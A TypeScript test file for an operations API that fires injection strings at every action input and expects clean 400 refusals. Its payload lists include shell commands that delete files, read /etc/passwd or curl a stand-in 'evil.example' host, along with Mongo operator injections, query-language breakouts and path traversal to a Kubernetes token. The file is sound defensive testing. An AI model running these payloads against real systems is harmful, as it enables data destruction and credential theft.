import { afterAll, describe, expect, inject, it } from 'vitest';
import { actions } from '../../../server/actions/registry.ts';
import { testApp } from '../../support/app.ts';
import { minimalInput, stringPaths, withValue } from '../../support/hostile.ts';
import { kubernetesConfig } from '../../support/kubernetes.ts';
import { mongoSettings } from '../../support/mongo.ts';

// Every action against the real test servers. No run is ever confirmed, so nothing is changed.
const runsheet = testApp({
  temporal: inject('temporal'),
  mongo: mongoSettings(),
  kubernetes: kubernetesConfig(),
  // Hundreds of unconfirmed writes in a minute: the rate limit is not what this file is about.
  policy: { writeRunsPerMinute: 1_000_000 },
});
afterAll(() => runsheet.close());

const injections = {
  shell: ['; rm -rf / #', '$(id)', '`id`', '| cat /etc/passwd', '&& curl http://evil.example/x'],
  mongo: ['{"$gt": ""}', '$where', 'db.dropDatabase()', '$ne', 'a.$[]'],
  labelSelector: ['app=x,app!=y)', 'app in (a', 'app=x\nenv=prod', 'app=x&labelSelector=', '!'],
  visibility: [
    'WorkflowType="A") OR (ExecutionStatus="Completed"',
    'WorkflowType="A" OR 1=1 --',
    `WorkflowId="x' OR '1'='1`,
    ')',
    'WorkflowId="a\\") OR (x"',
  ],
  pathTraversal: [
    '../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
  ],
  control: ['\u0000', 'a\r\nX-Injected: 1', 'abc\u202etxt.exe', 'x'.repeat(5000)],
};
type Kind = keyof typeof injections;

/**
 * Inputs that are data, handed to the target as a value and never parsed as a query, selector,
 * path or command: any text is a legal workflow ID or grep pattern. They must still never cause a
 * 500, and the kinds listed must be refused even there.
 */
const dataInputs: Record<string, Kind[]> = {
  workflowId: ['control'],
  newWorkflowId: ['control'],
  search: [],
  'grep.pattern': [],
  queryType: [],
  signalName: [],
  taskQueue: [],
  workflowType: [],
  // An HTTP path on the probed service, not a file on the backend.
  path: [],
};

/**
 * Visibility queries are a query language: Runsheet refuses what could step outside the
 * parentheses it wraps them in, and Temporal's own parser refuses the rest, also with a 400.
 */
const queryInputs = new Set(['query']);

/** The kinds that must be refused in an input, at validation, with a 400 naming the input. */
function mustRefuse(path: string[]): Kind[] {
  const key = path.filter((part) => !/^\d+$/.test(part)).join('.');
  return dataInputs[key] ?? (Object.keys(injections) as Kind[]);
}

async function post(body: string) {
  const response = await runsheet.app.request('/api/runs', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
  });
  return {
    status: response.status,
    body: (await response.json()) as {
      error?: { code: string; message: string; hint: string | null };
    },
  };
}

/** Never a 500; a refusal always says what and why (501 only where FerretDB lacks the command). */
function expectClearAnswer(
  where: string,
  { status, body }: { status: number; body: { error?: { code: string; message?: string } } },
) {
  const clear = status < 500 || (status === 501 && body.error?.code === 'not_supported');
  expect({ where, status, clear }).toEqual({ where, status, clear: true });
  if (status >= 400) expect(body.error?.message, where).toBeTruthy();
}

describe('injection attempts in every string input of every action', () => {
  it.each(actions.map((action) => [action.id]))('%s', async (actionId) => {
    const base = minimalInput(actionId);
    // The starting point is accepted, so a refusal below is about the one input that changed.
    const baseline = await runsheet.run({ action: actionId, input: base });
    expect(baseline.body.error?.code, JSON.stringify(baseline.body.error)).not.toBe(
      'invalid_input',
    );

    for (const path of stringPaths(actionId)) {
      const refused = mustRefuse(path);
      for (const [kind, values] of Object.entries(injections) as [Kind, string[]][]) {
        for (const value of values) {
          const where = `${actionId} ${path.join('.')} ← ${kind} ${JSON.stringify(value).slice(0, 60)}`;
          const answer = await runsheet.run({
            action: actionId,
            input: withValue(base, path, value),
          });
          expectClearAnswer(where, answer);
          if (queryInputs.has(path.join('.'))) {
            expect({ where, status: answer.status, code: answer.body.error?.code }).toEqual({
              where,
              status: 400,
              code: 'invalid_input',
            });
          } else if (refused.includes(kind)) {
            expect({ where, status: answer.status, code: answer.body.error?.code }).toEqual({
              where,
              status: 400,
              code: 'invalid_input',
            });
            expect(answer.body.error!.message, where).toContain(
              `Invalid input for ${actionId}: ${path.join('.')}`,
            );
          }
        }
      }
      // Not a string at all: an operator object, an array, a number where text belongs.
      for (const value of [{ $gt: '' }, ['a'], { toString: 'x' }]) {
        const answer = await runsheet.run({
          action: actionId,
          input: withValue(base, path, value),
        });
        expect({ path, value, status: answer.status }).toEqual({ path, value, status: 400 });
      }
    }
  });

  it('cannot widen a batch termination past "running and matching" with a visibility query', async () => {
    const { status, body } = await runsheet.run({
      action: 'temporal.batch.terminate',
      input: { query: 'WorkflowType="A") OR (ExecutionStatus="Completed"' },
      confirm: true,
      reason: 'hostile input test',
    });
    expect(status).toBe(400);
    expect(body.error?.message).toBe(
      'Invalid input for temporal.batch.terminate: query: a ")" at character 17 closes a parenthesis that was never opened',
    );
  });
});

describe('hostile request bodies', () => {
  it('refuses a body over 256 KiB before reading it all', async () => {
    const { status, body } = await post(
      JSON.stringify({
        action: 'temporal.workflow.describe',
        input: { workflowId: 'x'.repeat(300 * 1024) },
      }),
    );
    expect(status).toBe(400);
    expect(body.error).toMatchObject({
      code: 'invalid_body',
      message: 'The request body is over 256 KiB.',
    });
  });

  it('refuses input nested deeper than 64 levels instead of running out of stack', async () => {
    const deep = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
    for (const action of [
      'temporal.workflow.signal',
      'temporal.workflow.start',
      'mongo.createIndex',
    ]) {
      const { status, body } = await post(
        `{"action":"${action}","input":{"workflowId":"x","input":${deep(5000)}}}`,
      );
      expect({ action, status, body }).toEqual({
        action,
        status: 400,
        body: {
          error: {
            code: 'invalid_body',
            message: 'The run request is nested more than 64 levels deep.',
            hint: 'Inputs are small JSON objects; flatten the value or send it by reference.',
          },
        },
      });
    }
  });

  it('treats __proto__ and constructor keys as the unknown keys they are', async () => {
    for (const key of ['__proto__', 'constructor', 'prototype']) {
      const { status, body } = await post(
        `{"action":"temporal.workflow.describe","input":{"workflowId":"x","${key}":{"polluted":true}},"${key}":{"confirm":true}}`,
      );
      expect({ key, status, code: body.error?.code }).toEqual({
        key,
        status: 400,
        code: 'invalid_body',
      });
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    }
  });
});
